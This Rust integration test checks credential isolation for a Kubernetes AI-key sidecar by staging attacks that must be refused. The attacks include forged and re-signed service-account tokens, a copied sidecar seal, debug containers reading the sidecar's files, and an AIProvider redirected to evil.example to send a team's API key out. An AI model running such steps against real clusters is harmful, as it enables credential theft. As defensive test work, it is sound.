//! Isolation on a real cluster, as attacks by users of one namespace and by code in their pods, with kubelet's own tokens: who gets
//! no credential, beside who does by the same means.
//!
//! Each pod runs the intruder (`tests/go/intruder`). Users: Mallory deploys to team-a but may get no Secret, Olivia may get its
//! key too, Eve edits team-b (`tests/cases/cluster/attacks*.yaml`).

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use pillion_tests::apiserver::ISSUER;
use pillion_tests::cluster::Cluster;
use pillion_tests::images::{self, INTRUDER};
use pillion_tests::installed::{Installed, TEAM};
use pillion_tests::intruder::{Answer, Bearer, File, Intruder};
use pillion_tests::jwt::{self, Trust};
use pillion_tests::{wait, workspace};
use serde_json::{Value, json};

const OTHER_TEAM: &str = "team-b";
/// The key that the operator streams, by its id in the stream.
const KEY: &str = "team-a/openai/api-key";
const STREAMED: &str = "sk-team-a-openai";
const MOUNTED: &str = "sk-team-a-anthropic";
/// What every key of the team begins with.
const CANARY: &str = "sk-team-a-";
/// What every token begins with.
const TOKEN: &str = "eyJ";
/// A token that a pod mounts itself.
const OWN_TOKEN: &str = "/tokens/pillion";
const CHAT: &str = "http://127.0.0.1:15400/-/openai/v1/chat/completions";
const ADMIN: &str = "http://127.0.0.1:15402";
const SOON: Duration = Duration::from_secs(60);

/// One test, since a cluster takes long to start. What changes a pod comes last.
#[tokio::test]
async fn a_user_of_one_namespace_gets_no_credential_of_others() -> Result<()> {
    let values = ["secrets.access=Cluster", "identity.azure={Public}", "identity.aws.webIdentity=true"];
    let installed = Installed::start_with(&values).await?;
    let cluster = installed.cluster();
    start_teams(&installed).await?;
    untouched_sidecars_get_their_keys(&installed).await?;

    an_application_finds_no_token_key_or_file(cluster).await?;
    real_tokens_prove_their_own_service_account_to_a_cloud(cluster).await?;
    tokens_that_prove_no_injected_pod_are_refused(cluster).await?;
    a_pod_that_mounts_our_audience_itself_gets_no_key(cluster).await?;
    a_pod_of_another_namespace_gets_its_own_configuration_only(cluster).await?;
    a_pod_of_another_service_account_gets_its_own_identity_only(cluster).await?;
    who_may_not_get_a_secret_has_its_key_sent_nowhere(cluster).await?;
    no_provider_leads_to_metadata_or_takes_a_clouds_credential_away(cluster).await?;

    an_ephemeral_container_costs_the_pod_its_streamed_key(cluster).await?;
    a_changed_image_costs_the_pod_its_streamed_key(cluster).await
}

async fn start_teams(installed: &Installed) -> Result<()> {
    let cluster = installed.cluster();
    for image in images::of_the_intruder()? {
        cluster.import(&image)?;
    }
    installed.start_provider()?;
    installed.apply_case("attacks.yaml")?;
    for user in ["mallory", "eve"] {
        let file = format!("tests/cases/cluster/attacks-of-{user}.yaml");
        let objects = std::fs::read_to_string(workspace::root().join(file))?;
        // The role `edit` learns of our kinds a moment after the chart is installed.
        wait::until(&format!("what {user} writes"), SOON, || async { apply_as(cluster, user, &objects) }).await?;
    }
    let injected = stored(cluster, TEAM, "assistant")?;
    let seal = &injected["metadata"]["annotations"]["pillion.dev/sidecar-seal"];
    let copied = format!("pillion.dev/sidecar-seal={}", seal.as_str().context("the injected pod has no seal")?);
    cluster.kubectl(["annotate", "pod", "forger", "--namespace", TEAM, "--as", "mallory", &copied])?;
    for namespace in [TEAM, OTHER_TEAM] {
        cluster
            .kubectl(["wait", "pods", "--all", "--for=condition=Ready", "--namespace", namespace, "--timeout=120s"])
            .map_err(|error| error.context(cluster.pods_of(namespace)))?;
    }
    Ok(())
}

fn apply_as(cluster: &Cluster, user: &str, objects: &str) -> Result<()> {
    cluster.api().kubectl_input(["apply", "--as", user, "-f", "-"], objects).map(drop)
}

/// What somebody was refused, in the API server's words.
fn refusal<T>(attempt: Result<T>, what: &str) -> Result<String> {
    match attempt {
        Ok(_) => anyhow::bail!("{what} was not refused"),
        Err(refusal) => Ok(format!("{refusal:#}")),
    }
}

fn stored(cluster: &Cluster, namespace: &str, pod: &str) -> Result<Value> {
    Ok(serde_json::from_str(&cluster.kubectl(["get", "pod", pod, "--namespace", namespace, "-o", "json"])?)?)
}

/// A token that kubelet has put into a pod's sidecar, read on the node.
fn token_of_sidecar(cluster: &Cluster, pod: &str, file: &str) -> Result<String> {
    let stored = stored(cluster, TEAM, pod)?;
    let uid = stored["metadata"]["uid"].as_str().context("a pod has a uid")?;
    Ok(cluster.projected(uid, "pillion-tokens", file)?.trim().to_owned())
}

/// A token that a pod mounts itself, as its own container reads it.
async fn own_token(cluster: &Cluster, pod: &str, file: &str) -> Result<String> {
    let files = Intruder::of(cluster, TEAM, pod).files("/tokens").await?;
    let found = files.into_iter().find(|found| found.path.ends_with(&format!("/{file}")));
    Ok(found.with_context(|| format!("{pod} has no token {file}"))?.text.trim().to_owned())
}

/// One call of a pod's application through its sidecar.
async fn call(cluster: &Cluster, pod: &str, model: &str) -> Result<Answer> {
    let body = json!({"model": model, "messages": [{"role": "user", "content": "What is the weather in Paris?"}]});
    Intruder::of(cluster, TEAM, pod).post(CHAT, &body).await
}

/// Calls until the answer has this status and this `x-pillion-error`.
async fn answers(cluster: &Cluster, pod: &str, model: &str, expected: (u16, &str)) -> Result<Answer> {
    wait::until(&format!("{pod} is answered {expected:?} for {model}"), SOON, || async {
        let answer = call(cluster, pod, model).await?;
        ensure!((answer.status, answer.header("x-pillion-error")) == expected, "{answer:?}");
        Ok(answer)
    })
    .await
}

/// Opens the stream until it says anything of the key.
async fn told_of_the_key(intruder: Intruder<'_>, bearer: Bearer<'_>) -> Result<Answer> {
    wait::until("a word on the key", SOON, || async {
        let answer = intruder.opens_stream(bearer).await?;
        ensure!(!answer.key(KEY).is_null(), "{answer:?}");
        Ok(answer)
    })
    .await
}

/// Checks that the first word on the key is that there is none, and why.
async fn is_withheld(intruder: Intruder<'_>, bearer: Bearer<'_>, why: &str) -> Result<()> {
    let answer = told_of_the_key(intruder, bearer).await?;
    let key = answer.key(KEY);
    let message = key["message"].as_str().unwrap_or_default();
    ensure!(key["state"] == "withdrawn" && message.contains(why), "not withheld for '{why}': {answer:?}");
    ensure!(!answer.text().contains(CANARY), "a key was given: {answer:?}");
    Ok(())
}

/// What makes the refusals below say something: the ways that they close are open to whom they are meant for.
async fn untouched_sidecars_get_their_keys(installed: &Installed) -> Result<()> {
    let cluster = installed.cluster();
    for (pod, model, key) in [
        ("assistant", "gpt-4o-mini", STREAMED),
        ("debugged", "gpt-4o-mini", STREAMED),
        ("patched", "gpt-4o-mini", STREAMED),
        ("assistant", "claude-sonnet-4-5", MOUNTED),
    ] {
        answers(cluster, pod, model, (200, "")).await?;
        let received = installed.received()?;
        let carried = received
            .iter()
            .filter(|request| request.json()["model"] == model)
            .any(|request| request.headers.iter().any(|(_, value)| value.ends_with(key)));
        ensure!(carried, "no request for {model} carried {key}: {received:#?}");
    }
    // Outside of the pod, too, the sidecar's own token is what it takes.
    let token = token_of_sidecar(cluster, "assistant", "pillion")?;
    let outside = Intruder::of(cluster, TEAM, "liar");
    wait::until("the key for a sidecar's own token", SOON, || async {
        let answer = told_of_the_key(outside, Bearer::Token(&token)).await?;
        ensure!(answer.key(KEY)["value"] == STREAMED, "{answer:?}");
        Ok(())
    })
    .await
}

async fn an_application_finds_no_token_key_or_file(cluster: &Cluster) -> Result<()> {
    let application = Intruder::of(cluster, TEAM, "assistant");
    let files = application.files("/").await?;
    let ours = files.iter().find(|file| file.path.contains("pillion") || file.text.contains(CANARY));
    ensure!(ours.is_none(), "{ours:?}");
    let tokens: Vec<&File> = files.iter().filter(|file| file.text.starts_with(TOKEN)).collect();
    ensure!(!tokens.is_empty(), "not even the token for the API server, that every pod has, was found");
    for token in tokens {
        let audiences = jwt::claims(&token.text)?["aud"].take();
        ensure!(audiences == json!([ISSUER]), "{} is for {audiences}", token.path);
    }

    for process in application.processes().await? {
        ensure!(process.command.contains("intruder"), "another container's process is seen: {process:?}");
        ensure!(!process.files.iter().any(|file| file.path.contains("pillion")), "{process:?}");
        ensure!(process.environment.contains("OPENAI_BASE_URL=http://127.0.0.1:15400/"), "{process:?}");
        let telling = ["AWS_", "AZURE_", "GOOGLE_", "PILLION_", TOKEN, CANARY];
        let told = telling.iter().find(|text| process.environment.contains(**text));
        ensure!(told.is_none(), "a variable tells {told:?}: {}", process.environment);
    }

    for page in ["config", "credentials"] {
        let answer = application.get(&format!("{ADMIN}/{page}")).await?;
        ensure!(answer.status == 200, "{page}: {answer:?}");
        let text = answer.text();
        ensure!(!text.contains(CANARY) && !text.contains(TOKEN), "{page} shows a credential: {text}");
    }
    Ok(())
}

/// The cloud is played here: it fetches what the cluster publishes and believes nothing else.
async fn real_tokens_prove_their_own_service_account_to_a_cloud(cluster: &Cluster) -> Result<()> {
    let published = |path| anyhow::Ok(serde_json::from_str::<Value>(&cluster.kubectl(["get", "--raw", path])?)?);
    let (discovery, keys) = (published("/.well-known/openid-configuration")?, published("/openid/v1/jwks")?);
    ensure!(discovery["jwks_uri"].as_str().unwrap_or_default().ends_with("/openid/v1/jwks"), "{discovery}");
    let issuer = discovery["issuer"].as_str().context("the cluster names no issuer")?;
    let pod = stored(cluster, TEAM, "assistant")?;
    let ours = token_of_sidecar(cluster, "assistant", "pillion")?;
    for (file, audience) in [("aws-sts", "sts.amazonaws.com"), ("azure", "api://AzureADTokenExchange")] {
        let subject = "system:serviceaccount:team-a:assistants";
        let trust = Trust { keys: &keys, issuer, audience, subject };
        let token = token_of_sidecar(cluster, "assistant", file)?;
        let claims = trust.takes(&token).with_context(|| format!("the token for {audience}"))?;
        let bound = &claims["kubernetes.io"];
        ensure!(bound["namespace"] == TEAM && bound["serviceaccount"]["name"] == "assistants", "{claims}");
        ensure!(bound["pod"]["name"] == "assistant" && bound["pod"]["uid"] == pod["metadata"]["uid"], "{claims}");
        let lasts = claims["exp"].as_u64().zip(claims["iat"].as_u64()).map(|(end, start)| end - start);
        ensure!(lasts.is_some_and(|seconds| (3000..=4200).contains(&seconds)), "{claims}");

        ensure!(refusal(trust.takes(&jwt::forged(&token)?), "a forged token")?.contains("signature"));
        ensure!(refusal(trust.takes(&ours), "the token for the operator")?.contains("audiences"));
    }

    // The same trust, another service account: what it claims in annotations, its token does not say.
    let trust = |subject| Trust { keys: &keys, issuer, audience: "sts.amazonaws.com", subject };
    let token = own_token(cluster, "neighbour", "aws-sts").await?;
    trust("system:serviceaccount:team-a:neighbours").takes(&token)?;
    let refused = trust("system:serviceaccount:team-a:assistants").takes(&token);
    ensure!(refusal(refused, "another service account's token")?.contains("subject"));
    Ok(())
}

async fn tokens_that_prove_no_injected_pod_are_refused(cluster: &Cluster) -> Result<()> {
    let own = own_token(cluster, "liar", "pillion").await?;
    let foreign = own_token(cluster, "liar", "aws-sts").await?;
    let unbound = cluster.kubectl(["create", "token", "assistants", "--namespace", TEAM, "--audience=pillion"])?;
    let (now, key) = (jwt::now()?, std::fs::read(cluster.api().folder().join("service-accounts.key"))?);
    let lasting = |from: u64, to: u64| {
        jwt::resigned(&own, &key, |claims| {
            for (name, at) in [("iat", from), ("nbf", from), ("exp", to)] {
                claims[name] = at.into();
            }
        })
    };
    let (valid, expired) = (lasting(now - 60, now + 1800)?, lasting(now - 7200, now - 3600)?);
    let forged = jwt::forged(&own)?;
    let of_the_api_server = Bearer::File("/var/run/secrets/kubernetes.io/serviceaccount/token");
    let liar = Intruder::of(cluster, TEAM, "liar");
    for (what, bearer, status) in [
        ("its own", Bearer::Token(&own), 200),
        ("one that was signed anew and is valid", Bearer::Token(&valid), 200),
        ("one that has expired", Bearer::Token(&expired), 401),
        ("one whose signature was changed", Bearer::Token(&forged), 401),
        ("one of another audience", Bearer::Token(&foreign), 401),
        ("the one for the API server", of_the_api_server, 401),
        ("one that is bound to no pod", Bearer::Token(unbound.trim()), 403),
        ("none", Bearer::Nobody, 401),
    ] {
        let answer = liar.opens_stream(bearer).await?;
        ensure!(answer.status == status, "{what}: {answer:?}");
        ensure!(status == 200 || answer.snapshot().is_null(), "{what}: {answer:?}");
    }
    let unmarked = Intruder::of(cluster, TEAM, "unmarked").opens_stream(Bearer::File(OWN_TOKEN)).await?;
    ensure!(unmarked.status == 403 && unmarked.text().contains("pillion.dev/injected"), "{unmarked:?}");
    Ok(())
}

async fn a_pod_that_mounts_our_audience_itself_gets_no_key(cluster: &Cluster) -> Result<()> {
    for (pod, token, why) in [
        ("liar", OWN_TOKEN, "it has no sidecar"),
        ("neighbour", OWN_TOKEN, "it has no sidecar"),
        ("forger", "/var/run/secrets/pillion.dev/tokens/pillion", "is not one that was injected"),
    ] {
        let intruder = Intruder::of(cluster, TEAM, pod);
        is_withheld(intruder, Bearer::File(token), why).await.with_context(|| pod.to_owned())?;
    }
    Ok(())
}

async fn a_pod_of_another_namespace_gets_its_own_configuration_only(cluster: &Cluster) -> Result<()> {
    let foreigner = Intruder::of(cluster, OTHER_TEAM, "foreigner");
    let answer = wait::until("the other team's configuration", SOON, || async {
        let answer = foreigner.opens_stream(Bearer::File(OWN_TOKEN)).await?;
        ensure!(answer.snapshot().to_string().contains("AIRoute/team-b/all"), "{answer:?}");
        Ok(answer)
    })
    .await?;
    for foreign in ["team-a", "recorded-provider", "of-the-assistants", CANARY] {
        ensure!(!answer.text().contains(foreign), "another namespace's {foreign} was told: {answer:?}");
    }
    // With the sidecar's token from the other namespace, the same question has another answer.
    let token = token_of_sidecar(cluster, "assistant", "pillion")?;
    let told = foreigner.opens_stream(Bearer::Token(&token)).await?;
    ensure!(told.snapshot().to_string().contains("AIRoute/team-a/all"), "{told:?}");
    Ok(())
}

async fn a_pod_of_another_service_account_gets_its_own_identity_only(cluster: &Cluster) -> Result<()> {
    let token = token_of_sidecar(cluster, "assistant", "pillion")?;
    let assistants = ["role/of-the-assistants", "11111111-1111-1111-1111-111111111111"];
    let neighbours = ["role/of-the-neighbours", "22222222-2222-2222-2222-222222222222"];
    for (pod, bearer, own, others) in [
        ("liar", Bearer::Token(&token), assistants, neighbours),
        ("neighbour", Bearer::File(OWN_TOKEN), neighbours, assistants),
    ] {
        let answer = wait::until(&format!("{own:?}, asked by {pod}"), SOON, || async {
            let answer = Intruder::of(cluster, TEAM, pod).opens_stream(bearer).await?;
            ensure!(own.iter().all(|identity| answer.text().contains(identity)), "{answer:?}");
            Ok(answer)
        })
        .await?;
        ensure!(!others.iter().any(|identity| answer.text().contains(identity)), "{answer:?}");
    }
    Ok(())
}

async fn who_may_not_get_a_secret_has_its_key_sent_nowhere(cluster: &Cluster) -> Result<()> {
    let names_it = json!({
        "apiVersion": "pillion.dev/v1alpha1", "kind": "AIProvider", "metadata": {"name": "mine", "namespace": TEAM},
        "spec": {"type": "OpenAI", "endpoint": "https://evil.example", "auth": {
            "type": "APIKey", "apiKey": {"secretRef": {"name": "openai", "key": "api-key"}},
        }},
    })
    .to_string();
    let moved = r#"{"spec": {"endpoint": "https://evil.example"}}"#;
    let of_team = ["--namespace", TEAM];
    let moves = ["patch", "aiprovider", "openai", "--as", "mallory", "--type=merge", "--patch", moved];
    for attempt in
        [apply_as(cluster, "mallory", &names_it), cluster.kubectl(moves.into_iter().chain(of_team)).map(drop)]
    {
        let refusal = refusal(attempt, "Mallory's AIProvider")?;
        ensure!(refusal.contains("mallory may not get Secret openai"), "{refusal}");
    }
    apply_as(cluster, "olivia", &names_it)?;
    cluster.kubectl(["delete", "aiprovider", "mine"].into_iter().chain(of_team))?;

    // Of another namespace nobody gets anything, in whatever way: neither the Secret nor by an AIProvider there or here.
    let get = |user| cluster.kubectl(["get", "secret", "openai", "--as", user].into_iter().chain(of_team));
    get("olivia")?;
    for attempt in [get("eve").map(drop), apply_as(cluster, "eve", &names_it)] {
        let refusal = refusal(attempt, "Eve in the other team's namespace")?;
        ensure!(refusal.to_lowercase().contains("forbidden"), "{refusal}");
    }
    resolved(cluster, TEAM, "openai", ("True", "ResolvedRefs")).await?;
    resolved(cluster, OTHER_TEAM, "thief", ("False", "SecretNotFound")).await
}

/// Waits until the condition `ResolvedRefs` of an AIProvider has this status and reason.
async fn resolved(cluster: &Cluster, namespace: &str, provider: &str, expected: (&str, &str)) -> Result<()> {
    wait::until(&format!("ResolvedRefs {expected:?} of {provider}"), SOON, || async {
        let found = cluster.kubectl(["get", "aiprovider", provider, "--namespace", namespace, "-o", "json"])?;
        let object: Value = serde_json::from_str(&found)?;
        let conditions = object["status"]["conditions"].as_array().into_iter().flatten();
        let mut resolved = conditions.filter(|condition| condition["type"] == "ResolvedRefs");
        let is_expected = |condition: &Value| condition["status"] == expected.0 && condition["reason"] == expected.1;
        ensure!(resolved.any(is_expected), "{object:#}");
        Ok(())
    })
    .await
}

async fn no_provider_leads_to_metadata_or_takes_a_clouds_credential_away(cluster: &Cluster) -> Result<()> {
    for (model, expected) in [
        ("metadata", (502, "address_refused")),
        ("metadata-mapped", (502, "address_refused")),
        ("foreign-azure", (502, "credential_host_refused")),
        ("foreign-aws", (502, "credential_host_refused")),
        // The clouds' own hosts are not refused: there is no credential, since nobody here can reach a cloud.
        ("azure-gpt-4o", (503, "credential_unavailable")),
        ("nova-pro", (503, "credential_unavailable")),
    ] {
        answers(cluster, "assistant", model, expected).await?;
    }
    answers(cluster, "assistant", "gpt-4o-mini", (200, "")).await.map(drop)
}

async fn an_ephemeral_container_costs_the_pod_its_streamed_key(cluster: &Cluster) -> Result<()> {
    // As the sidecar's own user, who may read what is its own.
    let user = json!({"runAsUser": 65532, "runAsGroup": 65532});
    let debugger = json!({"spec": {"ephemeralContainers": [{
        "name": "debugger", "image": INTRUDER, "imagePullPolicy": "Never", "targetContainerName": "pillion",
        "securityContext": user,
    }]}})
    .to_string();
    cluster.kubectl([
        "patch",
        "pod",
        "debugged",
        "--namespace",
        TEAM,
        "--as",
        "mallory",
        "--subresource=ephemeralcontainers",
        "--patch",
        &debugger,
    ])?;
    let refused = answers(cluster, "debugged", "gpt-4o-mini", (503, "credential_unavailable")).await?;
    ensure!(refused.text().contains("ephemeral container"), "{refused:?}");

    // What it can see is why; and that the same program finds what is there to be found.
    let debugger = Intruder::of(cluster, TEAM, "debugged").next();
    let processes = debugger.processes().await?;
    let sidecar = processes.iter().find(|process| process.command.contains("pillion-sidecar"));
    let sidecar = sidecar.with_context(|| format!("the debugger does not see the sidecar: {processes:?}"))?;
    ensure!(sidecar.environment.contains("PILLION_CONFIG_URL="), "{sidecar:?}");
    let found = |end: &str| {
        let file = sidecar.files.iter().find(|file| file.path.ends_with(end));
        file.with_context(|| format!("no {end}: {sidecar:?}"))
    };
    ensure!(found("/anthropic")?.text == MOUNTED, "{sidecar:?}");
    let token = found("/pillion")?;
    ensure!(token.path.contains("/pillion.dev/tokens/") && token.text.starts_with(TOKEN), "{token:?}");
    // A streamed key is in no file, and is not given to who has read the token.
    ensure!(!sidecar.files.iter().any(|file| file.text.contains(STREAMED)), "{sidecar:?}");
    is_withheld(debugger, Bearer::File(&token.path), "ephemeral container").await
}

async fn a_changed_image_costs_the_pod_its_streamed_key(cluster: &Cluster) -> Result<()> {
    let token = token_of_sidecar(cluster, "patched", "pillion")?;
    let image = json!([{"op": "replace", "path": "/spec/initContainers/0/image", "value": INTRUDER}]).to_string();
    let patch = ["patch", "pod", "patched", "--namespace", TEAM, "--as", "mallory", "--type=json", "--patch", &image];
    cluster.kubectl(patch)?;
    // Either the sidecar is still there and has forgotten the key, or kubelet has put the other image in its place.
    wait::until("no answer for a pod of another image", SOON, || async {
        let answer = call(cluster, "patched", "gpt-4o-mini").await?;
        let forgotten = (answer.status, answer.header("x-pillion-error")) == (503, "credential_unavailable");
        ensure!(forgotten || answer.status == 0, "{answer:?}");
        Ok(())
    })
    .await?;
    // Whatever runs there has the pod's token, and asks with it.
    let anywhere = Intruder::of(cluster, TEAM, "liar");
    is_withheld(anywhere, Bearer::Token(&token), INTRUDER).await
}
